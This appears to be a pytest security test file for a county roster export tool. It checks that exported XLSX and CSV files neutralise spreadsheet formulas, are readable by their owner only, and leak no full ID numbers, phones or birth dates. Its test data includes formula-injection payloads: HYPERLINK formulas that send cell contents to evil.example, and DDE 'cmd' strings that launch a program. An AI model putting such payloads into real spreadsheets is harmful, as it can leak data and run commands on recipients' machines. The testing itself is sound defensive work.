"""A leaked or opened export (issue 12, item 3 and "Hardening"): names and villages typed as formulas into a village's
roster reach the county's exports as text, never as live formulas (XLSX and CSV); export files are readable by
their owner only; the duplicate-person anomaly in an export carries no birth date beside masked numbers."""

from __future__ import annotations

import csv
import re
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook

from devtools import synthetic
from hub.cli import main
from tests.security.privacy_data import FULL_ID, PERIOD, roster_rows

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what Excel, WPS and LibreOffice may run
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def exported(app, runner, tmp_path, database_url) -> tuple[list[Path], list[dict]]:
    """A roster whose names (and one village) are formula payloads, imported and exported by the commands."""
    rows = roster_rows()
    twin_name = rows[-1]["name"]  # the I3 pair keeps its name
    heads = (r for r in rows if r["relation"] == "户主" and r["name"] != twin_name)
    for row, payload in zip(heads, PAYLOADS, strict=False):
        row.update(name=payload, labour_ability="普通劳动力", status="正常")
    evil_village = "=HYPERLINK(\"http://evil.example\",\"村\")"
    for row in rows:
        if row["village"] == "东岭1村":
            row["village"] = evil_village
    path = tmp_path / "roster.csv"
    synthetic.write_roster_csv(rows, path)
    args = ["--data-dir", app.config["DATA_DIR"], "--database-url", database_url]
    imported = runner.invoke(main, [*args, "import-roster", str(path)])
    assert imported.exit_code == 0, imported.output
    assert runner.invoke(main, [*args, "clean", "--period", PERIOD]).exit_code == 0
    out = tmp_path / "reports"
    result = runner.invoke(main, [*args, "export", "--out", str(out), "--period", PERIOD])
    assert result.exit_code == 0, result.output
    return sorted(path for path in out.rglob("*") if path.is_file()), rows


def test_no_cell_of_any_xlsx_export_is_a_formula(exported):
    paths, _ = exported
    texts = []
    for path in (p for p in paths if p.suffix == ".xlsx"):
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate}: {cell.value!r} is a formula"
                texts.append(cell.value)
    assert PAYLOADS[0] in texts and any(str(value).startswith("=HYPERLINK") for value in texts)


def test_every_csv_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(exported):
    paths, _ = exported
    cells = []
    for path in (p for p in paths if p.suffix == ".csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    identifiers = [cell for cell in cells if re.fullmatch(r"\t[0-9X*]+", cell)]  # household numbers marked as text
    assert identifiers and not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell not in identifiers]
    assert "'" + PAYLOADS[0] in cells


def test_export_files_are_readable_by_their_owner_only(exported):
    paths, _ = exported
    assert paths and all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in paths)


def test_the_duplicate_person_anomaly_is_exported_without_a_birth_date(exported):
    paths, rows = exported
    twins = [r for r in rows if r["name"] == rows[-1]["name"]]
    births = {r["birth_date"] for r in twins} | {r["id_number"][6:14] for r in twins}
    for path in (p for p in paths if p.suffix == ".csv" and p.name.startswith("异常清单")):
        text = path.read_text(encoding="utf-8-sig")
        assert not FULL_ID.search(text) and not [birth for birth in births if birth in text]
    listing = next(p for p in paths if p.suffix == ".csv" and p.name.startswith("异常清单-板榄镇")).read_text(
        encoding="utf-8-sig")
    assert len(twins) == 2 and "I3" in listing and "涉及人员" in listing


def _cells(path: Path) -> list[object]:
    """Every cell of every sheet of an XLSX (the hand-off workbook and the quarterly analysis have several), or
    of a CSV."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return [cell for row in csv.reader(handle) for cell in row]
    return [cell.value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_holds_a_full_id_number_a_phone_or_a_birth_date(exported):
    """Every file `export` writes — anomaly lists, the untransferred table county-wide and per village, income
    classes, coverage, the hand-off workbook to 县人社局 and the quarterly analysis — shows masked numbers only,
    and nothing beside them rebuilds one: no birth date in any form, no phone (DOMAIN.md §9)."""
    paths, rows = exported
    births = {r["birth_date"] for r in rows if r["birth_date"]}
    hidden = {r["id_number"][6:14] for r in rows}
    phones = {r["phone"] for r in rows if r["phone"]}
    names = {p.name for p in paths}
    for start in ("异常清单", "务工信息及重点群体名单", "季度分析", "未转移就业"):
        assert any(name.startswith(start) for name in names), start
    for path in paths:
        for value in _cells(path):
            text = value.date().isoformat() if hasattr(value, "date") else str(value or "")
            assert not FULL_ID.search(text), f"{path.name}: a full ID number"
            assert not [b for b in births | hidden | phones if b in text], f"{path.name}: {text[:40]!r}"
